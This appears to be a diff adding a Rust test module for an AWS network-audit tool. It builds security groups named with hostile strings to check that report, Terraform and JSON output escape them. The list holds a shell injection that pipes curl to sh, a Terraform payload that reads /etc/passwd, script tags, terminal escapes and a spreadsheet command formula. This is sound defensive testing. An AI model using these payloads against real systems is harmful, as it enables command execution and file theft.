@@ -1,0 +1,89 @@
+//! One file per format we write.
+
+mod audit_json;
+mod graph;
+mod report;
+mod terraform;
+
+use std::path::PathBuf;
+
+use closegate::audit::Audit;
+
+use crate::common::{audit_paths, sample};
+
+/// The sample data's audit.
+fn audit() -> Audit {
+    audit_paths(
+        &[sample().join("flows/custom")],
+        &sample().join("inventory"),
+    )
+}
+
+/// One file of a run.
+fn file(audit: &Audit, name: &str) -> Vec<u8> {
+    let files = closegate::emit::files(audit).unwrap();
+    files.into_iter().find(|(path, _)| *path == name).unwrap().1
+}
+
+fn text(audit: &Audit, name: &str) -> String {
+    String::from_utf8(file(audit, name)).unwrap()
+}
+
+fn json(audit: &Audit, name: &str) -> serde_json::Value {
+    serde_json::from_slice(&file(audit, name)).unwrap()
+}
+
+/// Names that try to get out of wherever they are written.
+const HOSTILE: &[&str] = &[
+    "plain",
+    "\"; curl evil | sh; \"",
+    "${file(\"/etc/passwd\")} %{ for x in y }",
+    "</td><script>alert(1)</script>",
+    "| a | b |\n\n# heading\n\n[x](http://evil.example)",
+    "`backtick` *bold* _under_ \\n",
+    "back\\slash \\\" \\N \\l",
+    "\u{202e}gnirts\u{202c} \u{200b}\u{feff}",
+    "emoji 🔥 \u{1b}[31mred\u{7}",
+    "=cmd|' /C calc'!A0",
+    "plain",
+];
+
+/// An audit of a network whose groups carry those names: each talks to the next.
+fn hostile_audit() -> Audit {
+    let dir = tempfile::tempdir().unwrap();
+    let long = "x".repeat(255);
+    let names: Vec<&str> = HOSTILE.iter().copied().chain([long.as_str()]).collect();
+    let open = serde_json::json!([{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]);
+    let (mut groups, mut interfaces) = (Vec::new(), Vec::new());
+    let mut log =
+        "interface-id srcaddr srcport dstaddr dstport protocol action tcp-flags start\n".to_owned();
+    for (number, name) in names.iter().enumerate() {
+        let (group, own, next) = (
+            format!("sg-{number:017}"),
+            10 + number,
+            10 + (number + 1) % names.len(),
+        );
+        groups.push(serde_json::json!({"GroupId": group, "GroupName": name, "Description": name, "VpcId": "vpc-1", "OwnerId": "1",
+            "IpPermissions": [{"IpProtocol": "tcp", "FromPort": 80, "ToPort": 80, "IpRanges": [{"CidrIp": "10.0.0.0/8", "Description": name}]}],
+            "IpPermissionsEgress": open}));
+        interfaces.push(serde_json::json!({"NetworkInterfaceId": format!("eni-{number}"), "InterfaceType": "interface", "VpcId": "vpc-1", "Description": name,
+            "PrivateIpAddress": format!("10.0.0.{own}"), "Groups": [{"GroupId": group}], "TagSet": [{"Key": "Name", "Value": name}]}));
+        log += &format!("eni-{number} 10.0.0.{own} 40000 10.0.0.{next} 80 6 ACCEPT 2 1000\n");
+        log += &format!("eni-{number} 10.0.0.{own} 40000 198.51.100.{own} 443 6 ACCEPT 2 1000\n");
+        log += &format!("eni-{number} 10.0.0.{own} 40000 198.51.100.{own} 6667 6 ACCEPT 2 1000\n");
+    }
+    log += "what | is <b>this</b>\u{1b}[31m\n";
+    let write = |name: &str, value: &serde_json::Value| {
+        std::fs::write(dir.path().join(name), value.to_string()).unwrap()
+    };
+    write("g.json", &serde_json::json!({"SecurityGroups": groups}));
+    write(
+        "i.json",
+        &serde_json::json!({"NetworkInterfaces": interfaces}),
+    );
+    let flows: PathBuf = dir.path().join("<img src=x>.log");
+    std::fs::write(&flows, log).unwrap();
+    let audit = audit_paths(&[flows], dir.path());
+    assert_eq!(audit.replay.permitted as usize, names.len() * 2);
+    audit
+}
